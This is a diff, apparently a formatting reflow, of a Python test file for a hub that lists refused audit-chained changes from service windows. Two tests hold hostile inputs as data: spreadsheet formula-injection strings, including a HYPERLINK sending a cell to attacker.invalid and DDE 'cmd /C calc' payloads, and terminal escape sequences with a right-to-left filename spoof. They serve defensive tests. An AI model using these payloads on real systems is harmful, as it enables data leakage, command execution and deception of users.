@@ -26,22 +26,43 @@ ENGLISH = {"LANGUAGE": "en"}
 _last_hash: dict[str, str] = {}
 
 
-def _resolution_entry(workstation: Workstation, detail, *, at: str = "2026-12-04T07:30:00+00:00",
-                      hashed_as=None) -> AuditRecord:
+def _resolution_entry(
+    workstation: Workstation, detail, *, at: str = "2026-12-04T07:30:00+00:00", hashed_as=None
+) -> AuditRecord:
     """An audit entry as the hub stores one that a window's push carried: chained to the
     workstation's entry made before it, hashed as the window hashes it (``hashed_as``: the
     detail it was hashed with, when the stored one was changed since)."""
     entry_id, operator_id, entity_id = new_uuid(), new_uuid(), new_uuid()
     prev_hash = _last_hash.get(workstation.id, GENESIS_HASH)
-    fields = AuditFields(id=entry_id, at=at, operator_id=operator_id, workstation=workstation.window_id,
-                         action=AUDIT_REFUSAL_RESOLVED, entity="case", entity_id=entity_id,
-                         detail=detail if hashed_as is None else hashed_as)
+    fields = AuditFields(
+        id=entry_id,
+        at=at,
+        operator_id=operator_id,
+        workstation=workstation.window_id,
+        action=AUDIT_REFUSAL_RESOLVED,
+        entity="case",
+        entity_id=entity_id,
+        detail=detail if hashed_as is None else hashed_as,
+    )
     hash_ = _last_hash[workstation.id] = entry_hash(prev_hash, fields.hashed())
     return AuditRecord(
-        entry_id=entry_id, workstation_id=workstation.id, center_code=workstation.center_code,
-        window_id=workstation.window_id, client_seq=1, at=at, operator_id=operator_id, action=AUDIT_REFUSAL_RESOLVED,
-        entity="case", entity_id=entity_id, detail=detail, prev_hash=prev_hash, hash=hash_, chain_ok=True,
-        problem="", event_id=new_uuid(), received_at=utc_now(),
+        entry_id=entry_id,
+        workstation_id=workstation.id,
+        center_code=workstation.center_code,
+        window_id=workstation.window_id,
+        client_seq=1,
+        at=at,
+        operator_id=operator_id,
+        action=AUDIT_REFUSAL_RESOLVED,
+        entity="case",
+        entity_id=entity_id,
+        detail=detail,
+        prev_hash=prev_hash,
+        hash=hash_,
+        chain_ok=True,
+        problem="",
+        event_id=new_uuid(),
+        received_at=utc_now(),
     )
 
 
@@ -52,22 +73,30 @@ def test_refused_changes_are_listed_newest_first_with_their_resolutions(hub: Hub
     unknown = events.case(resident["entity_id"], item="XX-999")
     withdrawn = events.status(unknown["entity_id"], "withdraw")
     assert [status for status, _reason in hub.push_results(city_hall, [resident, unknown, withdrawn])] == [
-        "applied", "rejected", "rejected"]
+        "applied",
+        "rejected",
+        "rejected",
+    ]
     street_events = EventFactory(center="JD01", window="JD01-01")
     other_resident = street_events.resident(name="李娜")
     street_unknown = street_events.case(other_resident["entity_id"], item="XX-998")
     hub.push_results(street, [other_resident, street_unknown])
     with hub.db.write() as session:
-        session.add_all([
-            # Damaged or foreign entries first: they name no refused event and are passed over.
-            _resolution_entry(city_hall, ["not", "an", "object"]),
-            _resolution_entry(city_hall, {"event_id": 42, "note": "?"}),
-            _resolution_entry(street, {"event_id": unknown["event_id"], "note": "another window's"}),
-            _resolution_entry(city_hall, {"event_id": unknown["event_id"], "supervisor_name": "王主任",
-                                          "note": "已按 MZ-002 重新受理"}),
-            _resolution_entry(city_hall, {"event_id": withdrawn["event_id"], "note": "clock unreadable"},
-                              at="yesterday"),
-        ])
+        session.add_all(
+            [
+                # Damaged or foreign entries first: they name no refused event and are passed over.
+                _resolution_entry(city_hall, ["not", "an", "object"]),
+                _resolution_entry(city_hall, {"event_id": 42, "note": "?"}),
+                _resolution_entry(street, {"event_id": unknown["event_id"], "note": "another window's"}),
+                _resolution_entry(
+                    city_hall,
+                    {"event_id": unknown["event_id"], "supervisor_name": "王主任", "note": "已按 MZ-002 重新受理"},
+                ),
+                _resolution_entry(
+                    city_hall, {"event_id": withdrawn["event_id"], "note": "clock unreadable"}, at="yesterday"
+                ),
+            ]
+        )
 
     with hub.db.read() as session:
         everything = refused_changes(session)
@@ -76,8 +105,7 @@ def test_refused_changes_are_listed_newest_first_with_their_resolutions(hub: Hub
         at_city_hall = refused_changes(session, center="CH").changes
         newest = refused_changes(session, limit=1)
     assert (everything.total, everything.unresolved) == (3, 1)
-    assert ([c.event_id for c in newest.changes], newest.total, newest.unresolved) == (
-        [listed[0].event_id], 3, 1)
+    assert ([c.event_id for c in newest.changes], newest.total, newest.unresolved) == ([listed[0].event_id], 3, 1)
     assert [(c.window_id, c.kind, c.record) for c in listed] == [
         ("JD01-01", "case.accepted", street_unknown["payload"]["number"]),
         ("CH-01", "case.status", unknown["payload"]["number"]),  # its number, from the refused acceptance
@@ -113,7 +141,8 @@ def test_csv_keeps_english_headings_in_a_chinese_terminal(hub: Hub) -> None:
     with redirect_stdout(out):
         assert main(hub.cli_args("refused", "--format", "csv"), environ={"LANGUAGE": "zh_CN"}) == 0
     assert out.getvalue().splitlines() == [
-        "received_at,center,window,kind,record,reason,resolved_at,resolved_by,resolution_note"]
+        "received_at,center,window,kind,record,reason,resolved_at,resolved_by,resolution_note"
+    ]
 
 
 def _refused_with_window_text(hub: Hub, events: EventFactory, *, number: str, supervisor: str, note: str) -> None:
@@ -125,14 +154,16 @@ def _refused_with_window_text(hub: Hub, events: EventFactory, *, number: str, su
     case = events.case(resident["entity_id"], number=number)
     assert [status for status, _reason in hub.push_results(city_hall, [resident, case])] == ["applied", "rejected"]
     with hub.db.write() as session:
-        session.add(_resolution_entry(city_hall, {"event_id": case["event_id"], "supervisor_name": supervisor,
-                                                  "note": note}))
+        session.add(
+            _resolution_entry(city_hall, {"event_id": case["event_id"], "supervisor_name": supervisor, "note": note})
+        )
 
 
 def test_text_from_windows_reaches_the_spreadsheet_as_text_not_as_formulas(hub: Hub, events: EventFactory) -> None:
     formula = '=HYPERLINK("http://attacker.invalid/?"&A1,"click")'
-    _refused_with_window_text(hub, events, number=formula, supervisor="@SUM(1+1)*cmd|' /C calc'!A0",
-                              note="-2+3+cmd|' /C calc'!A0")
+    _refused_with_window_text(
+        hub, events, number=formula, supervisor="@SUM(1+1)*cmd|' /C calc'!A0", note="-2+3+cmd|' /C calc'!A0"
+    )
     out = io.StringIO()
     with redirect_stdout(out):
         assert main(hub.cli_args("refused", "--format", "csv"), environ=ENGLISH) == 0
@@ -147,7 +178,8 @@ def test_text_from_windows_reaches_the_spreadsheet_as_text_not_as_formulas(hub: 
 
 
 def test_escape_sequences_from_windows_are_shown_not_obeyed_by_the_terminal(
-        hub: Hub, events: EventFactory, capsys) -> None:
+    hub: Hub, events: EventFactory, capsys
+) -> None:
     # A title change, a link that shows other words, and letters shown in reverse order.
     supervisor = "\x1b]0;hub owned\x07王主任\x1b[2J"
     note = "\x1b]8;;http://attacker.invalid/\x1b\\已处理\x1b]8;;\x1b\\ \u202egnp.exe\rdone"
@@ -160,6 +192,8 @@ def test_escape_sequences_from_windows_are_shown_not_obeyed_by_the_terminal(
         assert not {"\x1b", "\x07", "\r", "\u202e"} & set(printed)
         assert "\\u001b]0;hub owned\\u0007王主任\\u001b[2J" in printed  # what was there, visible
         assert "\\u202egnp.exe\\u000ddone" in printed
+
+
 def test_a_resolution_counts_only_when_the_window_s_audit_chain_verifies_up_to_it(
     hub: Hub, events: EventFactory, capsys
 ) -> None:
@@ -169,14 +203,23 @@ def test_a_resolution_counts_only_when_the_window_s_audit_chain_verifies_up_to_i
     first, second, third = (events.case(resident["entity_id"], item=f"XX-99{n}") for n in range(3))
     assert [s for s, _ in hub.push_results(window, [resident, first, second, third])] == ["applied"] + ["rejected"] * 3
     with hub.db.write() as session:
-        session.add_all([
-            _resolution_entry(window, {"event_id": first["event_id"], "supervisor_name": "王主任", "note": "已重新受理"}),
-            # Changed after it was hashed (the window's word for it cannot be checked) ...
-            _resolution_entry(window, {"event_id": second["event_id"], "supervisor_name": "王主任", "note": "已处理"},
-                              hashed_as={"event_id": first["event_id"], "note": "其他"}),
-            # ... and an entry well linked to it, after the break, is no better.
-            _resolution_entry(window, {"event_id": third["event_id"], "supervisor_name": "王主任", "note": "已处理"}),
-        ])
+        session.add_all(
+            [
+                _resolution_entry(
+                    window, {"event_id": first["event_id"], "supervisor_name": "王主任", "note": "已重新受理"}
+                ),
+                # Changed after it was hashed (the window's word for it cannot be checked) ...
+                _resolution_entry(
+                    window,
+                    {"event_id": second["event_id"], "supervisor_name": "王主任", "note": "已处理"},
+                    hashed_as={"event_id": first["event_id"], "note": "其他"},
+                ),
+                # ... and an entry well linked to it, after the break, is no better.
+                _resolution_entry(
+                    window, {"event_id": third["event_id"], "supervisor_name": "王主任", "note": "已处理"}
+                ),
+            ]
+        )
 
     with hub.db.read() as session:
         listed = refused_changes(session)
